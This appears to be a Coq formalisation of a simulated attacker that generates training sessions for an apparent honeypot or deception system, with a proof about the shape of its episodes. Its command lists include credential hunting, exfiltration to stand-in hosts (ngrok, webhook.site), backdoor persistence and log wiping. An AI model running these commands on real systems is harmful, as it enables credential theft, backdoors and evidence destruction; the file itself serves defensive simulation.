(* ===== verification/Attacker.v ===== *)
(** plenith/training/attacker.py: the simulated attacker of the training episodes, over [random.Random]. *)

From Stdlib Require Import SpecFloat.
From S2P Require Import Prelude PyStr Float Json Synthetic Session Http.

#[local] Open Scope exc_scope.

(** ** The commands *)

Definition _RECON : list str :=
  ["whoami"; "id"; "pwd"; "uname -a"; "hostname"; "ls"; "ls -la"; "ls ~"; "ls /tmp"; "ls /etc"; "cat /etc/passwd";
   "cat /etc/group"; "cat /etc/hostname"; "cat /etc/os-release"; "cat /etc/issue"; "who"; "w"; "last"; "uptime";
   "ps aux"; "ps -ef"; "netstat -tlnp"; "ss -tlnp"; "df -h"; "free -h"; "ifconfig"; "ip a"]%py.
Definition _CRED_HUNT : list str :=
  ["find / -name id_rsa 2>/dev/null"; "find / -name *.pem"; "find / -name authorized_keys"; "find / -name *.kdbx";
   "grep -r AKIA /home"; "grep -r aws_secret /home"; "grep -r 'BEGIN PRIVATE KEY' /etc"; "cat ~/.aws/credentials";
   "cat ~/.aws/config"; "cat ~/.ssh/id_rsa"; "cat ~/.ssh/config"; "cat ~/.gitconfig"; "cat ~/.git-credentials";
   "cat ~/.bash_history"; "history"]%py.
Definition _LATERAL : list str :=
  ["ssh db-prod-01"; "ssh api-prod-03"; "ssh bastion-prod"; "ssh k8s-master-01";
   "scp /tmp/loot.txt root@bastion-prod:/tmp/"; "psql -h db-prod-01 -U postgres"; "mysql -u root -p";
   "nmap -sV 10.0.0.0/24"]%py.
Definition _EXFIL : list str :=
  ["curl https://x.ngrok.io/$(whoami)";
   "curl -X POST https://webhook.site/abc -d \x22$(cat ~/.aws/credentials)\x22";
   "wget http://abc.burpcollaborator.net/$(id)"; "dig +short data.xyz.oast.live";
   "cp ~/.aws/credentials /tmp/loot.txt"; "mv /tmp/loot.txt /tmp/.hidden"; "tar -czf /tmp/exfil.tar.gz ~/";
   "base64 ~/.ssh/id_rsa | curl -X POST https://x.ngrok.io/k -d @-"]%py.
Definition _PERSIST : list str :=
  ["echo 'ssh-rsa AAAA...attacker@evil' >> ~/.ssh/authorized_keys"; "sudo -l"; "sudo -i";
   "echo 'attacker:x:0:0::/root:/bin/bash' >> /etc/passwd"]%py.
Definition _CLEANUP : list str :=
  ["history -c"; "unset HISTFILE"; "export HISTFILE=/dev/null"; "rm /var/log/auth.log"; "> ~/.bash_history";
   "shred -u /tmp/loot.txt"]%py.
Definition _DECOY_FOLLOWUP : list str :=
  ["ls /etc/sudoers.d"; "cat /etc/sudoers.d/zzz_compat"; "cat /etc/mysql/my.cnf"; "cat ~/.aws/dev_credentials";
   "ls -la /etc/mysql"]%py.
Definition _EXIT : list str :=
  ["exit"]%py.

Record AttackerArchetype := mk_archetype {
  recon : flt; cred_hunt : flt; lateral : flt; exfil : flt; persist : flt; cleanup : flt; decoy_followup : flt;
}.

Definition ARCHETYPES : list (str * AttackerArchetype) :=
  [("recon_heavy"%py, mk_archetype (lit 4 1) (lit 2 1) (lit 5 10) (lit 5 10) (lit 2 10) (lit 5 10) (lit 1 1));
   ("smash_and_grab"%py, mk_archetype (lit 5 10) (lit 2 1) (lit 5 10) (lit 3 1) (lit 3 10) (lit 2 1) (lit 5 10));
   ("persistence_first"%py, mk_archetype (lit 1 1) (lit 1 1) (lit 2 1) (lit 5 10) (lit 3 1) (lit 1 1) (lit 2 1));
   ("balanced"%py, mk_archetype (lit 2 1) (lit 2 1) (lit 1 1) (lit 1 1) (lit 1 1) (lit 5 10) (lit 15 10))].

Definition balanced : AttackerArchetype := default (mk_archetype f1 f1 f1 f1 f1 f1 f1) (assoc_get "balanced"%py ARCHETYPES).

(** ** The corpus *)

(** A log file of the corpus: its parsed content, or what reading it raises.  Its commands are strings, as session_logger.py writes them. *)
Definition commands_in (data : pyval) : exc (list str) :=
  let* cs := get_key "commands"%py (VList []) data in
  match cs with
  | VList l =>
      let* ok := exc_map (λ c, let* v := get_ "cmd"%py c in Ok (match v with VStr ((_ :: _) as s) => Some s | _ => None end)) l in Ok (omap id ok)
  | _ => Raise (TypeError "not iterable"%py)
  end.

Fixpoint _load_corpus (files : list (exc pyval)) : exc (list (list str)) :=
  match files with
  | [] => Ok []
  | Raise (OSError _) :: files | Raise JSONDecodeError :: files => _load_corpus files
  | Raise e :: _ => Raise e
  | Ok data :: files =>
      let* cmds := commands_in data in
      let* rest := _load_corpus files in
      Ok (match cmds with [] => rest | _ => cmds :: rest end)
  end.

(** ** Episodes *)

Record AttackerSim := mk_sim { replay_probability : flt; lo : nat; hi : nat; _corpus_episodes : list (list str) }.

Section episodes.
Context {G : Type} `{Random G, RandomMore G}.

(** A few commands dropped, a few doubled. *)
Fixpoint perturb (ep : list str) (g : G) : list str * G :=
  match ep with
  | [] => ([], g)
  | cmd :: ep =>
      let '(r, g) := random g in
      if flt_b r (lit 5 100) then perturb ep g else
      let '(r, g) := random g in
      let '(out, g) := perturb ep g in
      ((if flt_b r (lit 3 100) then [cmd; cmd] else [cmd]) ++ out, g)
  end.

Definition ends_with_exit (l : list str) : bool := match last l with Some c => bool_decide (strip c = "exit"%py) | None => false end.

Definition _replay_episode (sim : AttackerSim) (g : G) : list str * G :=
  let '(ep, g) := choose g [] (_corpus_episodes sim) in
  let '(out, g) := perturb ep g in
  let '(target_len, g) := randint g (lo sim) (hi sim) in
  let out := take target_len out in
  (if ends_with_exit out then out else out ++ ["exit"%py], g).

Fixpoint draw_from (pool : list str) (k : nat) (g : G) : list str * G :=
  match k with 0 => ([], g) | S k => let '(c, g) := choice g pool in let '(l, g) := draw_from pool k g in (c :: l, g) end.

(** [max(1, int((weight / total) * n))]. *)
Definition share (weight total : flt) (n : nat) : nat := Nat.max 1 (Z.to_nat (default 0%Z (trunc (fmul (fdiv weight total) (of_int (Z.of_nat n)))))).

Definition order_passes (a : AttackerArchetype) : list (list str * flt * flt) :=
  [(_RECON, recon a, lit 7 10); (_CRED_HUNT, cred_hunt a, f1); (_LATERAL, lateral a, f1); (_DECOY_FOLLOWUP, decoy_followup a, lit 8 10);
   (_EXFIL, exfil a, f1); (_PERSIST, persist a, f1); (_CLEANUP, cleanup a, lit 9 10)].

Definition total_weight (a : AttackerArchetype) : flt :=
  let t := fsum [recon a; cred_hunt a; lateral a; exfil a; persist a; cleanup a; decoy_followup a] in if ftruth t then t else f1.

Fixpoint fire_passes (total : flt) (n : nat) (passes : list (list str * flt * flt)) (g : G) : list str * G :=
  match passes with
  | [] => ([], g)
  | (pool, weight, p_fire) :: passes =>
      let '(r, g) := random g in
      if fgt_b r p_fire then fire_passes total n passes g else
      let '(l, g) := draw_from pool (share weight total n) g in
      let '(rest, g) := fire_passes total n passes g in (l ++ rest, g)
  end.

Definition _stochastic_episode (sim : AttackerSim) (archetype_name : str) (g : G) : list str * G :=
  let a := default balanced (assoc_get archetype_name ARCHETYPES) in
  let '(n, g) := randint g (lo sim) (hi sim) in
  let '(out, g) := fire_passes (total_weight a) n (order_passes a) g in
  (take n out ++ _EXIT, g).

Definition has_corpus (sim : AttackerSim) : bool := negb (bool_decide (_corpus_episodes sim = [])).

Definition episode (sim : AttackerSim) (archetype : str) (g : G) : list str * G :=
  if has_corpus sim then
    let '(r, g) := random g in
    if flt_b r (replay_probability sim) then _replay_episode sim g else _stochastic_episode sim archetype g
  else _stochastic_episode sim archetype g.

Context `{!RandomLaws G}.

(** Every episode ends the session, within one command of the length asked for. *)
Lemma episode_shape sim archetype g : lo sim ≤ hi sim →
  ends_with_exit (episode sim archetype g).1 = true ∧ 1 ≤ length (episode sim archetype g).1 ≤ S (hi sim).
Proof.
  intros Hr.
  assert (Hs : ∀ g, let l := (_stochastic_episode sim archetype g).1 in ends_with_exit l = true ∧ 1 ≤ length l ≤ S (hi sim)).
  { clear g. intros g. unfold _stochastic_episode. pose proof (randint_range g (lo sim) (hi sim) Hr) as Hn. destruct (randint g _ _) as [n g1].
    destruct (fire_passes _ _ _ _) as [out g2]. cbn [fst] in *. cbv zeta. unfold ends_with_exit. rewrite last_app, length_app, length_take. cbn. split; [done|lia]. }
  unfold episode. destruct (has_corpus sim); [|apply Hs]. destruct (random g) as [r g1]. destruct (flt_b r _); [|apply Hs].
  unfold _replay_episode. destruct (choose g1 [] _) as [ep g2]. destruct (perturb ep g2) as [out g3].
  pose proof (randint_range g3 (lo sim) (hi sim) Hr) as Hn. destruct (randint g3 _ _) as [n g4]. cbn [fst] in *.
  destruct (ends_with_exit (take n out)) eqn:E; cbn [fst].
  - split; [done|]. rewrite length_take. destruct (take n out) eqn:Et; [done|]. pose proof (f_equal length Et) as Hl. rewrite length_take in Hl. cbn in Hl. lia.
  - unfold ends_with_exit. rewrite last_app, length_app, length_take. cbn. split; [done|lia].
Qed.
End episodes.

Definition default_sim : AttackerSim := mk_sim (lit 3 10) 8 25 [].

Example demo_episode : (episode (G := unit) default_sim "balanced"%py tt).1
  = ["whoami"; "find / -name id_rsa 2>/dev/null"; "ssh db-prod-01"; "ls /etc/sudoers.d"; "curl https://x.ngrok.io/$(whoami)";
     "echo 'ssh-rsa AAAA...attacker@evil' >> ~/.ssh/authorized_keys"; "history -c"; "exit"]%py.
Proof. vm_compute. reflexivity. Qed.
